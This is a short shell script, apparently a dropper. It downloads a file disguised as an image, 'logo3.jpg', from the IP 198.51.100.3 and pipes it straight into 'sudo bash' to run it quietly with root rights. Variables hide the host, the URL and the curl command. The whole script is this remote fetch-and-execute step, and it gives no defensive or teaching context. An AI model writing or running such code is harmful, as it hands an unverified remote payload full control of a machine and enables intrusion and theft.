#!/bin/sh
H=198.51.100.3
U="http://$H/logo3.jpg"
GET=curl
$GET -s "$U" | sudo bash -s -- -q
